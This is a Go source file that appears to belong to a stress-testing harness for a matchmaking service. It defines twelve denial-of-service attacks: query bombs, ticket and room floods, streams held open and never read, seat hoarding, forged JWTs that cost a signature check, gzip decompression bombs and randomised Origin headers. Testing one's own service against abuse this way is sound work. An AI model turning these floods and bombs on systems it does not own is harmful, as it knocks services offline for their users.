package attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"math/rand/v2"
	"strings"
	"sync"
	"time"
)

// Mode is the mode of matches that the attacks, and the crowd, wait for.
const Mode = "duel"

// calls are attacks by calls of the matchmaking service.
func calls() []Kind {
	return []Kind{
		{Name: "tickets", Rate: 200, Doc: "enqueues with the dearest query that is taken, and a set of 64 texts, each time as a new guest", run: bombTickets},
		{Name: "explain", Rate: 200, Doc: "has it explained again and again why such tickets wait", run: bombExplain},
		{Name: "list", Rate: 400, Doc: "lists rooms by the dearest query that is taken", run: bombList},
		{Name: "cancel", Rate: 400, Doc: "enqueues and cancels, with all attributes that a ticket may have", run: cancelTickets},
		{Name: "parties", Rate: 200, Doc: "enqueues as the leader of parties of which nobody is ever ready", run: gatherParties},
		{Name: "watchers", Rate: 400, Doc: "watches tickets and lists of rooms by streams that it never reads", run: watchStreams},
		{Name: "rooms", Rate: 400, Doc: "makes open rooms, each as a new guest", run: makeRooms},
		{Name: "guests", Rate: 400, Doc: "takes a seat by quick join, each time as a new guest, and never comes", run: takeSeats},
		{Name: "forged", Rate: 400, Doc: "calls with tokens whose signature is not right, which costs a check", run: forgedCalls},
		{Name: "compressed", Rate: 200, Doc: "sends calls of which some bytes unpack to megabytes", run: unpackCalls},
		{Name: "origins", Rate: 800, Doc: "calls as pages of ever other origins", run: manyOrigins},
		{Name: "service", Rate: 800, Doc: "calls RoomService with tokens that it made itself", run: forgedService, unfit: withService},
	}
}

// bomb returns a query with so many values in lists.
func bomb(values int) string {
	var b strings.Builder
	for at := 0; at < values; at += 128 {
		if at > 0 {
			b.WriteString(" or ")
		}
		b.WriteString("a has any (")
		for i := range min(128, values-at) {
			if i > 0 {
				b.WriteByte(',')
			}
			fmt.Fprintf(&b, `"%c%c"`, 'a'+i%26, 'a'+(at+i)/26%26)
		}
		b.WriteByte(')')
	}
	return b.String()
}

// set returns the JSON of an attribute with the longest set there may be.
func set() string {
	items := make([]string, 64)
	for i := range items {
		items[i] = fmt.Sprintf(`"zz%02d"`, i)
	}
	return `{"set":{"items":[` + strings.Join(items, ",") + `]}}`
}

// enqueue returns the body of a call of Enqueue.
func enqueue(query string) string {
	q, _ := json.Marshal(query) // a string can be
	return `{"mode":"` + Mode + `","attributes":{"a":` + set() + `},"query":` + string(q) + `}`
}

// dearest returns the dearest query that a call takes: of 7 lists of 128 values, or fewer.
func (s *Strike) dearest(ctx context.Context, call func(query string) string) (string, error) {
	a := &asker{d: s.dialer()}
	defer a.close()
	var err error
	for values := 7 * 128; values > 0; values = values * 3 / 4 {
		q := bomb(values)
		if _, err = a.ask(ctx, call(q)); err == nil {
			return q, nil
		}
		s.refused(err.Error())
	}
	return "", fmt.Errorf("no query is taken: %w", err)
}

// answered is what is of use in answers.
type answered struct {
	Ticket     string `json:"ticket"`
	GuestToken string `json:"guestToken"`
	Assignment struct {
		URL, Kind, Room, Seat string
	} `json:"assignment"`
}

func bearer(token string) string { return "Authorization: Bearer " + token + "\r\n" }

// ask is for calls whose answer matters.
func (a *asker) call(ctx context.Context, method, body string, more ...string) (out answered, err error) {
	b, err := a.ask(ctx, post(a.d.target.host(), method, body, more...))
	if err != nil {
		return out, err
	}
	return out, json.Unmarshal(b, &out)
}

// calling has workers call, each by a connection of its own.
func (s *Strike) calling(ctx context.Context, workers int, act func(ctx context.Context, a *asker) error) {
	askers := make([]asker, workers)
	for i := range askers {
		askers[i].d = s.dialer()
	}
	s.repeat(ctx, workers, func(ctx context.Context, w int) error { return act(ctx, &askers[w]) })
	for i := range askers {
		askers[i].close()
	}
}

func bombTickets(ctx context.Context, s *Strike) error {
	host := s.Target.host()
	q, err := s.dearest(ctx, func(q string) string { return post(host, "Enqueue", enqueue(q)) })
	if err != nil {
		return err
	}
	request := post(host, "Enqueue", enqueue(q))
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		_, err := a.ask(ctx, request)
		return err
	})
	s.hold(ctx)
	return nil
}

func bombExplain(ctx context.Context, s *Strike) error {
	host := s.Target.host()
	q, err := s.dearest(ctx, func(q string) string { return post(host, "Enqueue", enqueue(q)) })
	if err != nil {
		return err
	}
	var mu sync.Mutex
	var tickets []answered
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		mu.Lock()
		n := len(tickets)
		mu.Unlock()
		if n < 50 || n < 150 && rand.IntN(4) == 0 {
			t, err := a.call(ctx, "Enqueue", enqueue(q))
			if err != nil {
				return err
			}
			mu.Lock()
			tickets = append(tickets, t)
			mu.Unlock()
			return nil
		}
		mu.Lock()
		t := tickets[rand.IntN(n)]
		mu.Unlock()
		_, err := a.ask(ctx, post(host, "Explain", `{"ticket":"`+t.Ticket+`"}`, bearer(t.GuestToken)))
		return err
	})
	return nil
}

func bombList(ctx context.Context, s *Strike) error {
	host := s.Target.host()
	list := func(q string) string {
		b, _ := json.Marshal(q)
		return post(host, "ListRooms", `{"query":`+string(b)+`,"page_size":200}`)
	}
	q, err := s.dearest(ctx, list)
	if err != nil {
		return err
	}
	request := list(q)
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		_, err := a.ask(ctx, request)
		return err
	})
	return nil
}

// attributes returns as many attributes as a ticket may have, each as long as it may be.
func attributes() string {
	all := make([]string, 32)
	for i := range all {
		all[i] = fmt.Sprintf(`"n%d":{"text":"%s"}`, i, strings.Repeat("x", 200))
	}
	return strings.Join(all, ",")
}

func cancelTickets(ctx context.Context, s *Strike) error {
	host := s.Target.host()
	body := `{"mode":"` + Mode + `","attributes":{` + attributes() + `}}`
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		t, err := a.call(ctx, "Enqueue", body)
		if err != nil {
			return err
		}
		_, err = a.ask(ctx, post(host, "Cancel", `{"ticket":"`+t.Ticket+`"}`, bearer(t.GuestToken)))
		return err
	})
	return nil
}

func gatherParties(ctx context.Context, s *Strike) error {
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		_, err := a.call(ctx, "Enqueue", fmt.Sprintf(`{"mode":"%s","party":["guest:%x"]}`, Mode, rand.Uint64()))
		return err
	})
	s.hold(ctx)
	return nil
}

// enveloped returns the body of a call of a stream, as Connect has it.
func enveloped(body string) string {
	n := len(body)
	return string([]byte{0, byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}) + body
}

func watchStreams(ctx context.Context, s *Strike) error {
	host := s.Target.host()
	d := s.dialer()
	s.repeat(ctx, 4, func(ctx context.Context, _ int) error {
		c, err := d.dial(ctx, "http/1.1")
		if err != nil {
			return err
		}
		body := enveloped(`{"page_size":200}`)
		_ = c.SetDeadline(time.Now().Add(dialLimit))
		_, err = fmt.Fprintf(c, "POST /tickroom.v1.MatchmakingService/WatchRooms HTTP/1.1\r\nHost: %s\r\nContent-Type: application/connect+json\r\nContent-Length: %d\r\n\r\n%s", host, len(body), body)
		if err != nil {
			_ = c.Close()
			return err
		}
		s.keep(c)
		return nil
	})
	s.hold(ctx)
	return nil
}

func makeRooms(ctx context.Context, s *Strike) error {
	request := post(s.Target.host(), "CreateRoom", `{"kind":"walkers","open":true}`)
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		_, err := a.ask(ctx, request)
		return err
	})
	s.hold(ctx)
	return nil
}

func takeSeats(ctx context.Context, s *Strike) error {
	request := post(s.Target.host(), "QuickJoin", `{"kind":"walkers"}`)
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		_, err := a.ask(ctx, request)
		return err
	})
	s.hold(ctx)
	return nil
}

// forge returns a token that looks right but for its signature.
func forge(alg, kid string) string {
	enc := base64.RawURLEncoding
	now := time.Now().Unix()
	head := enc.EncodeToString([]byte(`{"alg":"` + alg + `","typ":"JWT","kid":"` + kid + `"}`))
	claims := enc.EncodeToString(fmt.Appendf(nil, `{"sub":"u-%d","aud":"play","iat":%d,"exp":%d}`, rand.Uint64(), now, now+600))
	sign := make([]byte, 64)
	for i := range sign {
		sign[i] = byte(rand.Uint32())
	}
	sign[63] &= 0x0f // what Ed25519 would refuse at once
	return head + "." + claims + "." + enc.EncodeToString(sign)
}

func forgedCalls(ctx context.Context, s *Strike) error {
	host := s.Target.host()
	algs := []string{"EdDSA", "RS256", "HS256"}
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		_, err := a.ask(ctx, post(host, "ListRooms", `{}`, bearer(forge(algs[rand.IntN(len(algs))], ""))))
		return err
	})
	return nil
}

func forgedService(ctx context.Context, s *Strike) error {
	host := s.Target.host()
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		body := `{}`
		_, err := a.ask(ctx, fmt.Sprintf("POST /tickroom.v1.RoomService/ListRooms HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n%sContent-Length: %d\r\n\r\n%s",
			host, bearer(forge("HS256", "")), len(body), body))
		return err
	})
	return nil
}

// unpacked is how long the body of a call is that unpackCalls sends packed.
const unpacked = 8 << 20

func unpackCalls(ctx context.Context, s *Strike) error {
	var b bytes.Buffer
	z, err := gzip.NewWriterLevel(&b, gzip.BestCompression)
	if err != nil {
		return err
	}
	_, err = z.Write(append([]byte(`{"kind":"`), bytes.Repeat([]byte("x"), unpacked)...))
	if err = errors.Join(err, z.Close()); err != nil {
		return err
	}
	request := post(s.Target.host(), "ListRooms", b.String(), "Content-Encoding: gzip\r\n")
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		_, err := a.ask(ctx, request)
		return err
	})
	return nil
}

func manyOrigins(ctx context.Context, s *Strike) error {
	host := s.Target.host()
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		_, err := a.ask(ctx, post(host, "ListRooms", `{}`, fmt.Sprintf("Origin: https://%x.example.com\r\n", rand.Uint64())))
		return err
	})
	return nil
}
